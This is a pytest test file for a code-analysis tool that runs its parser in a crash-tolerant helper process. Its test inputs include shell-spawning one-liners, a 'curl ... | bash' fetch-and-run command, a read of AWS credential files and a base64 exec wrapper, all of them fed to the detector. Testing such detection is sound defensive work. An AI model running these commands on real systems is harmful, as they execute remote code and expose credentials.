"""The helper process: the same answers, and a sensor that lives on when the helper dies."""

import msgspec
import pytest

from flycatcher import apart
from flycatcher.payload import analyse

from .helpers import nested, snippet


@pytest.fixture
def helper():
    with apart.Apart() as running:
        yield running


@pytest.mark.parametrize(
    ("language", "text"),
    [
        ("python", "import os; os.system('sh -c id')"),
        ("perl", "exec '/bin/sh'"),
        ("shell", "curl -s https://example.org | bash"),
    ],
)
def test_the_helper_answers_as_the_analysis_does(helper, language, text):
    assert helper.analyse(snippet(text, language)) == analyse(snippet(text, language), nested=nested)


def test_bytes_that_are_no_text_do_not_end_the_helper(helper):
    assert helper.analyse(snippet("exec '/bin/sh' # \udcff", "perl")).layers[0].text == "exec '/bin/sh' # ?"
    assert helper.crashes == 0


def test_a_crash_is_told_and_the_next_text_is_analysed(helper):
    helper.analyse(snippet("print(1)"))
    helper._helper.kill()
    helper._helper.wait()
    found = helper.analyse(snippet("open('/root/.aws/credentials')"))
    assert (found.parse, helper.crashes) == ("not parsed", 1)
    assert "the parser crashed or did not end in time" in found.notes
    assert [c.id for c in found.capabilities] == ["credentials.files"]
    assert helper.analyse(snippet("print(2)")).parse == "parsed"


def test_a_helper_that_does_not_answer_is_ended():
    with apart.Apart(seconds=0.0) as impatient:
        assert impatient.analyse(snippet("print(3)")).parse == "not parsed"
        assert impatient._helper is None


def test_a_text_that_was_not_seen_needs_no_helper(helper):
    assert helper.analyse(snippet(None)).notes == ("the text was not seen",)
    assert helper._helper is None


def test_an_analysis_survives_its_encoding():
    found = analyse(snippet("import base64; exec(base64.b64decode('cHJpbnQoMSk='))"))
    assert msgspec.msgpack.decode(msgspec.msgpack.encode(found), type=type(found)) == found
